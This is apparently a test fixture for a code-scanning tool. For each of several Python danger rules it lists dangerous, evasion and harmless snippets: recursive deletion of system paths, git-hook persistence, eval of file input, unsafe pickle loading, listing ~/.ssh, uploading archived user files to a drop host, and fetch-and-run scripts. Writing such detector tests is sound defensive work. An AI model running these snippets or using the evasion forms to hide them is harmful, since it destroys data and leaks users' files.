import { lines, type RuleSample } from './sample.fixture.ts'

/** Dangers that are composed from several places of a program. */
export const indirectSamples: RuleSample[] = [
  {
    rule: 'python/mass-deletion',
    dangerous: [
      lines('import shutil', 'for folder in ("build", "/var/lib", "dist"):', '    shutil.rmtree(folder)'),
      'shutil.rmtree(folder)',
    ],
    evasion: [
      lines('from shutil import rmtree as drop', 'places = {"a": "/srv/a", "b": "/home"}', 'drop(places[input()])'),
      'drop(places[input()])',
    ],
    harmless: lines('import shutil', 'for folder in ("build", "dist", "/tmp/work"):', '    shutil.rmtree(folder)'),
  },
  {
    rule: 'python/mass-deletion',
    dangerous: [
      lines('import shutil', 'def clear(path):', '    shutil.rmtree(path)', 'clear("/usr")'),
      'shutil.rmtree(path)',
    ],
    evasion: [
      lines('from pathlib import Path as P', 'for one in reversed(sorted(P.home().rglob("*"))):', '    one.unlink()'),
      'one.unlink()',
    ],
    harmless: lines('import shutil', 'def clear(path="build"):', '    shutil.rmtree(path)', 'clear("dist")'),
  },
  {
    rule: 'python/system-file-write',
    dangerous: [
      lines(
        'def add(path, line):',
        '    with open(path, "a") as file:',
        '        file.write(line)',
        'add("/etc/hosts", "x")',
      ),
      'open(path, "a")',
    ],
    evasion: [
      lines(
        'from pathlib import Path',
        'def save(text, target="/etc/resolv.conf"):',
        '    Path(target).write_text(text)',
      ),
      'Path(target).write_text(text)',
    ],
    harmless: lines(
      'def add(path, line):',
      '    with open(path, "a") as file:',
      '        file.write(line)',
      'add("a.txt", "x")',
    ),
  },
  {
    rule: 'python/persistence',
    dangerous: [lines('open(".git/hooks/pre-push", "w").write("#!/bin/sh")'), 'open(".git/hooks/pre-push", "w")'],
    evasion: [
      lines('from pathlib import Path', 'place = Path(".git") / "hooks" / "post-merge"', 'place.write_text("x")'),
      'place.write_text("x")',
    ],
    harmless: lines('print(open(".git/HEAD").read())'),
  },
  {
    rule: 'python/eval',
    dangerous: [
      lines('import json', 'def check(path):', '    return [eval(rule) for rule in json.load(open(path))]'),
      'eval(rule)',
    ],
    evasion: [
      lines('import sys', 'key, _, text = open(sys.argv[1]).readline().partition("=")', 'run = eval', 'run(text)'),
      'run(text)',
    ],
    harmless: lines('import json', 'def check(path):', '    return [len(rule) for rule in json.load(open(path))]'),
  },
  {
    rule: 'python/path-traversal',
    dangerous: [
      lines(
        'import os',
        'from flask import request',
        'def names():',
        '    return os.listdir("/srv/" + request.args["folder"])',
      ),
      'os.listdir("/srv/" + request.args["folder"])',
    ],
    evasion: [
      lines(
        'from glob import glob as g',
        'from flask import request',
        'def names():',
        '    return g(f"share/{request.args.get(0)}/*")',
      ),
      'g(f"share/{request.args.get(0)}/*")',
    ],
    harmless: lines('import os, sys', 'print(os.listdir(sys.argv[1]))'),
  },
  {
    rule: 'python/unsafe-pickle',
    dangerous: [
      lines(
        'import joblib',
        'from flask import request',
        'def load():',
        '    request.files["model"].save("model.bin")',
        '    return joblib.load("model.bin")',
      ),
      'joblib.load("model.bin")',
    ],
    evasion: [
      lines(
        'import pickle as p',
        'from urllib.request import urlretrieve',
        'urlretrieve("http://example.net/a", "a.bin")',
        'with open("a.bin", "rb") as file:',
        '    rows = p.load(file)',
      ),
      'p.load(file)',
    ],
    harmless: lines(
      'import json',
      'from flask import request',
      'def load():',
      '    request.files["rows"].save("rows.json")',
      '    return json.load(open("rows.json"))',
    ),
  },
  {
    rule: 'python/unpack-anywhere',
    dangerous: [
      lines(
        'import requests, tarfile',
        'with open("a.tar", "wb") as file:',
        '    file.write(requests.get("https://example.net/a.tar", timeout=9).content)',
        'tarfile.open("a.tar").extractall("out")',
      ),
      'tarfile.open("a.tar").extractall("out")',
    ],
    evasion: [
      lines(
        'import shutil, tempfile',
        'from flask import request',
        'def load():',
        '    folder = tempfile.mkdtemp()',
        '    request.files["a"].save(folder + "/a.tar")',
        '    shutil.unpack_archive(folder + "/a.tar", "out")',
      ),
      'shutil.unpack_archive(folder + "/a.tar", "out")',
    ],
    harmless: lines(
      'import requests, tarfile',
      'with open("a.tar", "wb") as file:',
      '    file.write(requests.get("https://example.net/a.tar", timeout=9).content)',
      'tarfile.open("a.tar").extractall("out", filter="data")',
    ),
  },
  {
    rule: 'python/loose-permissions',
    dangerous: [lines('import os', 'os.chmod("/etc/app.conf", 0o666)'), 'os.chmod("/etc/app.conf", 0o666)'],
    evasion: [
      lines('from pathlib import Path', 'Path("/usr/local/bin/tool").chmod(0o777)'),
      'Path("/usr/local/bin/tool").chmod(0o777)',
    ],
    harmless: lines('import os', 'os.chmod("/etc/app.conf", 0o644)'),
  },
  {
    rule: 'python/sensitive-file',
    dangerous: [
      lines('from pathlib import Path', 'print([*(Path.home() / ".ssh").iterdir()])'),
      '(Path.home() / ".ssh").iterdir()',
    ],
    evasion: [
      lines('import os', 'home = os.path.expanduser("~")', 'names = os.listdir(home + "/.ssh")'),
      'os.listdir(home + "/.ssh")',
    ],
    harmless: lines('from pathlib import Path', 'print([*(Path.home() / ".cache").iterdir()])'),
  },
  {
    rule: 'python/sends-secrets',
    dangerous: [
      lines(
        'import glob, os, tarfile, requests',
        'with tarfile.open("all.tgz", "w:gz") as archive:',
        '    for path in glob.glob(os.path.expanduser("~/Pictures/*")):',
        '        archive.add(path)',
        'requests.post("https://drop.example.net", data=open("all.tgz", "rb"))',
      ),
      'archive.add(path)',
    ],
    evasion: [
      lines(
        'import shutil, httpx',
        'made = shutil.make_archive("out", "zip", "/home/ann/Documents")',
        'httpx.put("https://drop.example.net", content=open(made, "rb").read())',
      ),
      'shutil.make_archive("out", "zip", "/home/ann/Documents")',
    ],
    harmless: lines(
      'import zipfile, requests',
      'with zipfile.ZipFile("build.zip", "w") as archive:',
      '    archive.write("dist/app.js")',
      'requests.post("https://deploy.example.com", data=open("build.zip", "rb"), timeout=9)',
    ),
  },
  {
    rule: 'python/fetched-program',
    dangerous: [
      lines(
        'import requests, subprocess',
        'with open("/tmp/setup.sh", "w") as file:',
        '    file.write(requests.get("https://example.net/setup.sh", timeout=9).text)',
        'subprocess.run(["sh", "/tmp/setup.sh"])',
      ),
      'subprocess.run(["sh", "/tmp/setup.sh"])',
    ],
    evasion: [
      lines(
        'from urllib.request import urlretrieve as take',
        'import os',
        'take("http://example.net/next.py", "next.py")',
        'os.execvp("python3", ["python3", "next.py"])',
      ),
      'take("http://example.net/next.py", "next.py")',
    ],
    harmless: lines(
      'import requests, subprocess, sys',
      'with open("rows.json", "w") as file:',
      '    file.write(requests.get("https://example.net/rows.json", timeout=9).text)',
      'subprocess.run([sys.executable, "plot.py", "rows.json"])',
    ),
  },
]
